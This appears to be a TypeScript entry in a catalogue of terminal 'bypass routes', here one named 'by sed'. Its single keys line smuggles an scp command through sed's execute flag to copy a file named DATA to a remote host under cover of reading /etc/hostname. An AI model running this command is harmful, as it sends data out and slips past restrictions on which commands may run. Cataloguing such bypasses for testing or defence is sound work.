import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by sed',
  source: 'thought of with the keys of the line editor',
  keys: ["sed '1e scp DATA host:' /etc/hostname\r"],
};
